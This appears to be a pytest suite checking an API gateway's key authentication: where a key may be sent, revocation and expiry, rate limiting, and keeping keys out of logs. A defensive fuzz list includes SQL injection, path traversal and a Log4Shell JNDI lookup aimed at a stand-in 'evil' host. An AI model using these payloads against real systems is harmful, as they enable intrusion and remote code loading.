"""Who may call at all: rows AU1 to AU8."""

import asyncio
import json
import random
import re
import time
from datetime import UTC, datetime

import pytest

from tests.conftest import REAL_KEY, digest, team
from tests.fake_upstream import Q
from tests.faults.conftest import LIMITS, OpenWorld, World, refused
from tests.faults.wire import KEY_A, KEY_B, Answer, draft, get, head, parse, post

USAGE = "/gateway/v1/usage"
BEARER = f"Authorization: Bearer {KEY_A}"


def access_log(world: World, capsys: pytest.CaptureFixture[str]) -> str:
    world.house.gw.access_log.flush()
    return str(capsys.readouterr().out)


@pytest.mark.parametrize(
    ("target", "lines", "code"),
    [
        (USAGE, [], "key_missing"),
        (USAGE, ["Authorization: Basic Y2FuYXJ5OmNhbmFyeQ=="], "key_invalid"),
        (USAGE, ["Authorization: Bearer"], "key_invalid"),
        (USAGE, ["Authorization:"], "key_invalid"),
        (USAGE, [f"Authorization: {KEY_A}"], "key_invalid"),
        (USAGE, [f"{BEARER} b"], "key_invalid"),
        (f"{USAGE}?key={KEY_A}&access_token={KEY_A}", [], "key_missing"),
        (USAGE, [f"Cookie: Authorization={KEY_A}; key={KEY_A}"], "key_missing"),
        (USAGE, [f"X-Api-Key: {KEY_A}"], "key_missing"),
        (USAGE, [f"Proxy-{BEARER}"], "key_missing"),
    ],
)
async def test_au1_a_key_counts_in_one_place_only(
    open_world: OpenWorld, capsys: pytest.CaptureFixture[str], target: str, lines: list[str], code: str
) -> None:
    world = await open_world(access_log="on")
    refused(await world.closing(get(target, *lines, key=None)), 401, code)
    refused(await world.closing(post(draft(), *lines, key=None)), 401, code)
    await world.untouched()
    assert "canary" not in access_log(world, capsys)


@pytest.mark.parametrize("scheme", ["bearer", "BEARER", "bEaReR", "Bearer "])
async def test_au1_the_scheme_is_case_insensitive(world: World, scheme: str) -> None:
    assert (await world.keeping(get(USAGE, f"Authorization: {scheme} {KEY_A}", key=None))).status == 200


async def test_au2_unknown_mistyped_and_revoked_keys_look_alike(
    open_world: OpenWorld, capsys: pytest.CaptureFixture[str]
) -> None:
    world = await open_world(access_log="on")
    revoke(world)
    await world.house.eventually(lambda: refuses(world, KEY_A))
    answers = [await world.closing(get(USAGE, key=key)) for key in ("unknown", KEY_B[:-1] + "c", KEY_A)]
    for answer in answers:
        refused(answer, 401, "key_invalid")
    assert len({without_id(answer) for answer in answers}) == 1
    assert await world.books("b") == (0, 0, 0)
    assert "canary" not in access_log(world, capsys)


async def test_au2_a_key_is_revoked_on_a_connection_that_has_sent_it_often(world: World) -> None:
    wire = await world.connect()
    for _ in range(4):
        await wire.send(get(USAGE))
        assert (await wire.answer()).status == 200
    revoke(world)
    await world.house.eventually(lambda: refuses(world, KEY_A))
    await wire.send(get(USAGE))
    refused(await wire.answer(), 401, "key_invalid")


async def test_au2_an_expired_key_is_told_so_and_logged_by_name(
    open_world: OpenWorld, capsys: pytest.CaptureFixture[str]
) -> None:
    a_second_ago = int(time.time()) - 1  # noqa: TID251 - as a policy's author would read it
    expired = datetime.fromtimestamp(a_second_ago, UTC).isoformat()
    old = f"  - {{name: old, hash: {digest('canary-old')}, expires: {expired}}}\n"
    policy = team("c", "canary-new").replace("models:", f"{old}models:")
    world = await open_world(files={"c.yaml": policy}, access_log="on")
    refused(await world.closing(post(draft(), key="canary-old")), 401, "key_expired")
    assert (await world.ask(get(USAGE, key="canary-new"))).status == 200
    log = access_log(world, capsys)
    line = json.loads(log.splitlines()[0])
    assert (line["team"], line["key"], line["code"]) == ("c", "old", "key_expired")
    assert "canary" not in log
    assert world.upstream.creates == []


HOSTILE = [
    *("' OR 1=1--", "%", "../..", "${jndi:ldap://evil/a}", "\xf0\x9f\x94\x91", "\xff\xfe\xfd", "%00", "a\tb", '"'),
    *("a\x00b", "a\x0bb", "k" * 600, "k" * 40_000, "k" * 1_000_000),
]


@pytest.mark.parametrize("key", HOSTILE, ids=lambda key: ascii(key[:12]))
async def test_au3_a_hostile_key_is_no_key(world: World, key: str) -> None:
    answer = await world.closing(get(USAGE, key=key))
    codes = {401: "key_invalid", 400: "invalid_request", 431: "headers_too_large"}
    refused(answer, answer.status, codes[answer.status])
    assert "SQL" not in answer.body.decode()
    await world.untouched()


async def test_au3_random_bytes_are_no_key(open_world: OpenWorld) -> None:
    world = await open_world(trusted_proxies="127.0.0.0/8")  # so that each comes from an address of its own
    dice = random.Random(3)
    for number in range(150):
        key = dice.randbytes(dice.randrange(1, 80)).replace(b"\r", b"").replace(b"\n", b"").decode("latin-1")
        answer = await world.closing(get(USAGE, f"X-Forwarded-For: 10.0.0.{number}", key=key))
        refused(answer, answer.status, {401: "key_invalid", 400: "invalid_request"}[answer.status])
    await world.untouched()


@pytest.mark.parametrize(
    "lines",
    [
        [BEARER, "Authorization: Bearer nobody"],
        ["Authorization: Bearer nobody", BEARER],
        [BEARER, f"Authorization: Bearer {KEY_B}"],
        [BEARER, BEARER],
        [f"{BEARER}, Bearer {KEY_B}"],
        [f"{BEARER},"],
    ],
    ids=["valid-invalid", "invalid-valid", "a-b", "identical", "joined", "comma"],
)
async def test_au4_two_keys_are_none(world: World, lines: list[str]) -> None:
    refused(await world.closing(post(draft(), *lines, key=None)), 400, "invalid_request")
    await world.untouched()


async def test_au5_the_real_key_opens_nothing(open_world: OpenWorld, capsys: pytest.CaptureFixture[str]) -> None:
    world = await open_world(access_log="on")
    refused(await world.closing(post(draft(), key=REAL_KEY)), 401, "key_invalid")
    await world.untouched()
    assert REAL_KEY not in access_log(world, capsys)
    assert REAL_KEY not in (await world.house.admin("/api/denials")).text


@pytest.mark.parametrize(
    "request_",
    [
        get(f"{Q}/nope", key=None),
        head("PUT", f"{Q}/requests", "Content-Length: 5", key=None) + b"hello",
        head("POST", f"{Q}/requests", "Content-Length: 1000000000", "Expect: 100-continue", key=None),
    ],
    ids=["404", "405", "413"],
)
async def test_au6_the_key_is_asked_for_before_anything_is_said(world: World, request_: bytes) -> None:
    refused(await world.closing(request_), 401, "key_missing")
    await world.untouched()


async def test_au6_a_stranger_cannot_make_the_gateway_read(world: World) -> None:
    wire = await world.connect()
    receiving = asyncio.ensure_future(wire.rest())
    start = head("POST", f"{Q}/requests", "Content-Length: 1000000000", key=None)
    sent = await wire.send(start, *[bytes(65536)] * 1000)
    assert sent < 16_000_000  # the gateway's 1.5 MB and what the sockets of both sides hold
    (answer,) = parse(await receiving)
    refused(answer, 401, "key_missing")


async def test_au7_only_bad_keys_of_one_address_are_slowed_down(open_world: OpenWorld) -> None:
    world = await open_world(trusted_proxies="127.0.0.0/8")

    async def try_key(key: str, address: str) -> Answer:
        return await world.ask(get(USAGE, f"X-Forwarded-For: {address}", key=key))

    answers = [await try_key(f"bad-{number}", "203.0.113.9") for number in range(300)]
    statuses = [answer.status for answer in answers]
    assert statuses[:100] == [401] * 100
    assert statuses[-50:] == [429] * 50
    refused(answers[-1], 429, "rate_limited")
    assert answers[-1].json["rate_limit"]["interval_seconds"] == 60
    refused(await try_key("bad", "203.0.113.10"), 401, "key_invalid")
    assert (await try_key(KEY_A, "203.0.113.10")).status == 200
    assert (await try_key(KEY_A, "203.0.113.9")).status == 200


async def test_au8_a_removed_key_stops_and_its_running_create_does_not(world: World) -> None:
    world.upstream.go.clear()
    creating = asyncio.ensure_future(world.a.create())
    await world.house.eventually(lambda: world.upstream.creates)
    revoke(world)
    await world.house.eventually(lambda: refuses(world, KEY_A), seconds=2)
    world.upstream.go.set()
    created = await creating
    assert created.status_code == 200
    await world.created()
    assert (await world.a.get(f"{Q}/requests/{created.json()['request_id']}")).status_code == 401


def revoke(world: World) -> None:
    """Team a gets another key; the files are noticed by themselves."""
    (world.house.policies / "a.yaml").write_text(team("a", "another-key", LIMITS))


async def refuses(world: World, key: str) -> bool:
    return (await world.house.client(key).get(USAGE)).status_code == 401


def without_id(answer: Answer) -> bytes:
    return re.sub(rb'"request_id":"[^"]*"', b"", answer.body)
